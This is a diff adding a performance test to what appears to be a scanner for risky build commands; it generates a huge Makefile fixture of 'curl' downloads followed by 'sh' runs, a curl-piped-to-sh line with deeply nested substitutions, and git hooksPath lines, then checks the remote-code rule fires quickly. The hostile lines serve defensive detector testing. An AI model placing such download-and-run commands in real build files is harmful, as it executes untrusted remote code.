@@ -74,3 +74,17 @@ describe('build-commands: where commands run', () => {
     expect(run('someone/else')).toEqual(['build.remote-code']);
   });
 });
+
+describe('build-commands: hostile input stays linear', () => {
+  it('a 20k-line recipe of downloads and runs, and long lines of nested substitutions', () => {
+    const lines: string[] = ['all:'];
+    for (let i = 0; i < 10_000; i++) lines.push(`\tcurl -o f${i}.sh https://example.com/${i}`, `\tsh f${i}.sh`);
+    lines.push(`\techo ${'$('.repeat(5000)}curl x${')'.repeat(5000)} | sh`);
+    lines.push(`\t${'git '.repeat(400)}core.hooksPath ${'a'.repeat(300)}`);
+    lines.push(`\t${'/home/'.repeat(3000)}`);
+    const started = Date.now();
+    const findings = runAnalyzer(buildCommandsAnalyzer, { path: 'Makefile', code: `${lines.join('\n')}\n` });
+    expect(Date.now() - started).toBeLessThan(10_000);
+    expect(findings.filter((f) => f.ruleId === 'build.remote-code').length).toBeGreaterThanOrEqual(10_000);
+  });
+});
